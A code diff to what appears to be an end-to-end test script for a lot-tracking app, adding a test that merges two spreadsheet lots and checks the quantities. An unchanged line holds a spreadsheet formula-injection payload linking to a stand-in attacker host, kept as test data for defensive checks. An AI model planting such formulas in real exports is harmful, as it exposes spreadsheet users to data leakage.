@@ -86,7 +86,7 @@ def shot(page, name):
 TITLES = {"#/record": ["Registra un evento", "Record an event"], "#/split": ["Dividi un lotto"],
           "#/devices": ["Dispositivi"], "#/queue": ["Invii", "Submissions"], "#/lot": ["Nuovo lotto"],
           "#/product": ["Nuovo prodotto"], "#/": ["I miei lotti", "My lots"], "#/sheets": ["Fogli di calcolo"],
-          "#/recall": ["Richiamo di un lotto"], "#/transform": ["Trasformazione"]}
+          "#/recall": ["Richiamo di un lotto"], "#/transform": ["Trasformazione"], "#/merge": ["Unione di lotti"]}
 # A receiver's note written to attack whoever opens the export in a spreadsheet.
 HOSTILE_NOTE = '=HYPERLINK("https://evil.example/?x","ok")'
 sheet_checks = {}
@@ -608,6 +608,21 @@ def main():
         # 6d. A queued transaction altered on the device after signing (one
         #     byte of its call) is refused by the app before it is sent.
         tampered(a)
+
+        # 6d'. Two lots of the spreadsheet merged into one; one lot alone is
+        #      refused on the device first.
+        before = [a.request.get(f"{API}/v1/lots/{GTIN}/CU-XLS-0{n}").json()["quantity"] for n in (1, 2)]
+        go(a, "#/merge")
+        a.check(f'.merge[value="{GTIN}/CU-XLS-01"]')
+        a.fill("#into", "CU-XLS-M")
+        a.locator("main button[type=submit]").click()
+        expect(a.locator("#err")).to_have_text("Scegli almeno due lotti.")
+        a.check(f'.merge[value="{GTIN}/CU-XLS-02"]')
+        shot(a, "merge")
+        send(a, "Registrato in rete")
+        merged = a.request.get(f"{API}/v1/lots/{GTIN}/CU-XLS-M").json()
+        assert merged["quantity"] == sum(before), (merged, before)
+        assert sorted(i["lot"] for i in merged["inputs"]) == ["CU-XLS-01", "CU-XLS-02"], merged
 
         # 6e. The admin phone recalls a lot of the spreadsheet.
         go(a, "#/recall")
